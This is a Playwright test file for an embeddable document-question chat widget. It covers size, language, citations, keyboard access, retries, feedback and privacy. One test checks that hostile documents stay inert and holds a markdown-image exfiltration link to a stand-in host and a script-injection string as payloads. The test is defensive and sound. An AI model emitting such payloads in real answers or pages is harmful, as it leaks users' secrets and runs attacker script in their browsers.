"""The widget in a browser, on pages of another origin, against the real server."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Route, expect

from rag.query.language import LANGUAGES
from tests import web
from tests.widget_page import (
    LEAVE_QUESTION,
    LEAVE_QUOTE,
    ZONES,
    Reader,
    Site,
    address,
    day_in,
    reading,
    running_site,
)

SCRIPT = Path(__file__).parent.parent / "ui" / "static" / "widget.js"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with running_site(tmp_path_factory.mktemp("home")) as site:
        yield site


@pytest.fixture
def reader(site: Site, browser: Browser) -> Iterator[Reader]:
    with reading(browser, address(site.allowed, "plain")) as reader:
        yield reader
        assert reader.problems == []


@pytest.mark.parametrize("language", LANGUAGES)
def test_it_weighs_at_most_8_kib(site: Site, language: str) -> None:
    asked = {"accept-encoding": "gzip", "accept-language": language}
    with httpx.stream("GET", f"{site.server}/widget.js", headers=asked) as reply:
        sent = b"".join(reply.iter_raw())
    assert len(sent) <= 8192
    assert "accept-language" in reply.headers["vary"].lower()
    plain = httpx.get(f"{site.server}/widget.js?lang={language}", headers={"accept-encoding": ""}).content
    assert gzip.decompress(sent) == plain


@pytest.mark.parametrize(
    ("locale", "lang", "placeholder", "judging"),
    [("de-AT", "de", "Stellen Sie eine Frage", "Hilfreich?"), ("ja", "en", "Ask a question", "Helpful?")],
)
def test_it_speaks_the_readers_language(
    site: Site, browser: Browser, locale: str, lang: str, placeholder: str, judging: str
) -> None:
    with reading(browser, address(site.allowed, "plain"), locale=locale) as reader:
        reader.open()
        expect(reader.part("textarea")).to_have_attribute("placeholder", placeholder)
        reader.ask(LEAVE_QUESTION)
        expect(reader.part(".feedback")).to_contain_text(judging)
        assert reader.part(".root").get_attribute("lang") == lang


def test_a_server_that_went_away_is_named_and_found_again(site: Site, browser: Browser) -> None:
    with reading(browser, address(site.allowed, "plain")) as reader:
        reader.open()
        reader.page.route("**/api/**", lambda route: route.abort())
        reader.ask(LEAVE_QUESTION)
        expect(reader.part(".problem")).to_contain_text(f"{site.server}/ cannot be reached.")
        reader.page.unroute("**/api/**")
        reader.part(".problem button").click()
        expect(reader.part(".text")).to_contain_text(LEAVE_QUOTE)


def test_the_page_and_the_widget_are_two_requests_and_25_kb(site: Site, browser: Browser) -> None:
    """Of a page of another site that nobody has visited before, until the widget can be asked."""
    with browser.new_context() as context:
        page, loaded = context.new_page(), []
        page.on("requestfinished", lambda request: loaded.append(request))
        page.goto(address(site.allowed, "plain"))
        expect(page.locator("rag-chat").locator(".launcher")).to_be_visible()
        page.wait_for_load_state("networkidle")
        files = [each for each in loaded if each.resource_type in ("document", "script", "stylesheet", "image", "font")]
        sizes = [each.sizes() for each in loaded]
        assert len(files) == 2
        assert sum(each["responseBodySize"] + each["responseHeadersSize"] for each in sizes) <= 25_000


def test_a_citation_opens_its_exact_words(reader: Reader) -> None:
    reader.open()
    answer = reader.ask("Which portal shows the days that are left?")
    answer.locator("button.cite").first.click()
    mark = reader.part("mark")
    expect(mark).to_have_text("🌍🌍 The portal 🚀 shows the days that are left.")
    before, after = web.LEAVE.text.split("🌍🌍 The portal 🚀 shows the days that are left.")
    expect(reader.part(".doc")).to_have_text(web.LEAVE.text, use_inner_text=False)
    assert reader.part(".doc").evaluate("e => [e.firstChild.data, e.lastChild.data]") == [before, after]
    expect(mark).to_be_in_viewport()
    expect(reader.part(".view")).to_contain_text("Human Resources · 2025-02-01")


def test_the_short_answer_leads_and_the_documents_are_listed(reader: Reader) -> None:
    reader.open()
    answer = reader.ask(LEAVE_QUESTION)
    expect(answer.locator("strong")).to_have_text("25 days")
    expect(answer).to_contain_text(LEAVE_QUOTE)
    expect(answer).not_to_contain_text("**")
    expect(reader.part(".row").first).to_contain_text("Staff handbook: leave")
    expect(reader.part("[role=status]")).to_contain_text(f"Answer: {LEAVE_QUOTE}")
    reader.part(".row").first.click()
    expect(reader.part("mark")).to_have_text(LEAVE_QUOTE)


def test_that_the_documents_differ_comes_before_what_each_of_them_says(reader: Reader) -> None:
    reader.open()
    answer = reader.ask("Do they differ on paid leave a year and on soup?")
    told = "The documents differ: [1] [2]. The newest is [2]."
    assert answer.locator("xpath=preceding-sibling::p").all_text_contents() == [told]
    expect(answer.locator("strong")).to_have_count(0)
    expect(reader.part("[role=status]")).to_contain_text(f"Answer: {told} {LEAVE_QUOTE}")


def test_a_refusal_shows_the_nearest_passages_as_such(reader: Reader) -> None:
    reader.open()
    answer = reader.ask("Who painted it?")
    expect(answer).to_have_text("The documents do not say.")
    expect(reader.part(".label")).to_have_text("Nearest passages, not an answer")
    expect(reader.part(".row")).to_have_count(3)
    expect(answer.locator(".cite")).to_have_count(0)
    reader.part(".row").nth(1).click()
    expect(reader.part("mark")).to_have_text("The canteen opens at noon.")


def test_hostile_documents_are_inert(reader: Reader) -> None:
    reader.open()
    answer = reader.ask("zebra rule instructions click mail")
    expect(answer).to_contain_text("![leak](http://evil.invalid/leak.png?q=secret)")
    expect(answer).to_contain_text("<script>window.__xss=4</script>")
    for number in range(answer.locator("button.cite").count()):
        answer.locator("button.cite").nth(number).click()
        expect(reader.part(".doc")).to_have_text(web.HOSTILE.text, use_inner_text=False)
        assert str(reader.part("mark").text_content()) in web.HOSTILE.text
        reader.page.keyboard.press("Escape")
    assert reader.part("img, script, a, iframe, form, b").count() == 0
    assert reader.page.evaluate("window.__xss") is None


def test_the_keyboard_alone_suffices(reader: Reader) -> None:
    press = reader.page.keyboard.press
    reader.page.locator("#host-button").focus()
    press("Tab")
    assert reader.focused() == "launcher"
    press("Enter")
    assert reader.focused() == "TEXTAREA"
    reader.page.keyboard.type(LEAVE_QUESTION[:-1])
    press("Shift+Enter")
    reader.page.keyboard.type("please?")
    press("Enter")
    reader.settle("please?")
    press("Shift+Tab")  # the feedback, the rows and the citations come before the question field
    for _ in range(12):
        if reader.focused() == "cite":
            break
        press("Shift+Tab")
    press("Enter")
    expect(reader.part("mark")).to_be_visible()
    assert reader.focused() == "H2"
    press("Tab")
    assert reader.focused() == "scroll doc"
    press("Tab")  # what the source covers is out of reach
    assert reader.focused() == "launcher"
    press("Shift+Tab")
    press("Escape")
    assert reader.focused() == "cite"
    press("Escape")
    expect(reader.part(".panel")).to_be_hidden()
    expect(reader.part(".launcher")).to_be_focused()


def test_keys_stay_inside(reader: Reader) -> None:
    reader.page.evaluate(
        "for (const t of ['keydown', 'keypress', 'keyup']) document.addEventListener(t, () => window.leaked = t)"
    )
    reader.open()
    reader.page.keyboard.type("a?")
    reader.page.keyboard.press("Escape")
    assert reader.page.evaluate("window.leaked") is None


def test_stop_keeps_what_was_written(site: Site, reader: Reader) -> None:
    site.pipeline.delay = 0.2
    try:
        reader.open()
        reader.part("textarea").fill(LEAVE_QUESTION)
        reader.page.keyboard.press("Enter")
        expect(reader.part(".text strong")).to_have_text("25 days.")
        expect(reader.part(".log")).to_have_attribute("aria-busy", "true")
        reader.page.keyboard.press("Enter")
        reader.part("[aria-label=Stop]").click()
    finally:
        site.pipeline.delay = 0.0
    expect(reader.part(".label")).to_have_text("Stopped.")
    expect(reader.part(".text strong")).to_have_text("25 days.")
    expect(reader.part("[aria-label=Send]")).to_be_visible()


def test_a_follow_up_belongs_to_the_conversation_until_it_is_reset(site: Site, reader: Reader) -> None:
    reader.open()
    reader.ask(LEAVE_QUESTION)
    reader.ask("When do unused days lapse?")
    assert [turn.content for turn in site.pipeline.asked[-1][1]][:1] == [LEAVE_QUESTION]
    reader.part("[aria-label='New conversation']").click()
    expect(reader.part(".question")).to_have_count(0)
    reader.part(".examples button").click()
    reader.settle(LEAVE_QUESTION)
    assert site.pipeline.asked[-1][1] == ()


def test_feedback_is_recorded(site: Site, reader: Reader) -> None:
    reader.open()
    reader.ask(LEAVE_QUESTION)
    reader.part(
        ".feedback button",
    ).nth(2).click()
    expect(reader.part(".feedback")).to_contain_text("Thank you.")
    expect(reader.part("[aria-pressed=true]")).to_have_text("Wrong source")
    last = json.loads((site.home / "feedback.jsonl").read_text(encoding="utf-8").splitlines()[-1])
    assert (last["verdict"], last["question"]) == ("wrong_source", LEAVE_QUESTION)


def test_a_stream_that_breaks_off_is_asked_for_again(reader: Reader) -> None:
    asked: list[str] = []

    def break_off(route: Route) -> None:
        asked.append(str(route.request.post_data))
        if len(asked) == 2:
            route.continue_()
        else:
            origin = route.request.headers["origin"]
            cut = 'event: token\ndata: {"type": "token", "text": "**25 da'
            route.fulfill(
                body=cut, headers={"access-control-allow-origin": origin, "content-type": "text/event-stream"}
            )

    reader.page.route("**/api/chat", break_off)
    reader.open()
    expect(reader.ask(LEAVE_QUESTION)).to_contain_text(LEAVE_QUOTE)
    assert asked[0] == asked[1]
    asked.append("the second attempt fails too")
    reader.ask("zebra")
    expect(reader.part(".problem")).to_contain_text("No complete answer arrived.")
    reader.page.unroute("**/api/chat")
    reader.part(".problem button").click()
    reader.settle("zebra")
    expect(reader.part(".problem")).to_have_count(0)
    expect(reader.part(".question")).to_have_count(2)


def test_the_words_of_a_server_that_refuses_are_shown(reader: Reader) -> None:
    reader.open()
    reader.chat.evaluate("chat => chat.ask('x'.repeat(3000))")
    expect(reader.part(".problem")).to_contain_text("Use 1 to 2000 characters.")
    reader.ask("explode")
    expect(reader.part(".problem").last).to_contain_text("Something went wrong")
    reader.problems.clear()  # the browser reports the 422


def test_events_and_methods(reader: Reader) -> None:
    reader.page.evaluate("""() => {
      window.seen = [];
      for (const name of ['open', 'question', 'answer', 'citation', 'feedback', 'close', 'reset'])
        document.addEventListener('rag-chat:' + name, (event) => seen.push([name, event.detail]));
    }""")
    reader.chat.evaluate("(chat, question) => chat.ask(question)", LEAVE_QUESTION)
    reader.settle(LEAVE_QUESTION)
    reader.part("button.cite").first.click()
    expect(reader.part("mark")).to_be_visible()
    reader.page.keyboard.press("Escape")
    reader.part(".feedback button").first.click()
    reader.page.wait_for_function("seen.at(-1)[0] === 'feedback'")
    reader.chat.evaluate("chat => { chat.reset(); chat.toggle(); }")
    expect(reader.part(".panel")).to_be_hidden()
    reader.page.wait_for_function("seen.at(-1)[0] === 'close'")
    seen = reader.page.evaluate("seen")
    assert [name for name, _ in seen] == ["open", "question", "answer", "citation", "feedback", "reset", "close"]
    details = dict(seen)
    assert details["answer"]["claims"][0]["quotes"][0]["text"] == LEAVE_QUOTE
    assert details["citation"]["document_id"] == web.LEAVE.id
    assert details["feedback"] == {"message_id": details["answer"]["message_id"], "value": "up"}


def test_nothing_is_remembered_and_no_cookie_is_sent(site: Site, browser: Browser) -> None:
    with reading(browser, address(site.allowed, "plain")) as reader:
        reader.page.evaluate("document.cookie = 'host=secret'")
        with reader.page.expect_request("**/api/chat") as request:
            reader.chat.evaluate("(chat, question) => chat.ask(question)", LEAVE_QUESTION)
        reader.settle(LEAVE_QUESTION)
        assert "cookie" not in request.value.all_headers()
        assert reader.page.evaluate("[document.cookie, localStorage.length, sessionStorage.length]") == [
            "host=secret",
            0,
            0,
        ]
        reader.page.reload()
        expect(reader.part(".question")).to_have_count(0)


@pytest.mark.parametrize("zone", ZONES)
def test_a_question_is_asked_on_the_day_of_its_reader(site: Site, browser: Browser, zone: str) -> None:
    with reading(browser, address(site.allowed, "plain"), timezone_id=zone) as reader:
        reader.open()
        before = day_in(zone)
        reader.ask("Who counts the days?")
        assert site.pipeline.days[-1] in (before, day_in(zone))
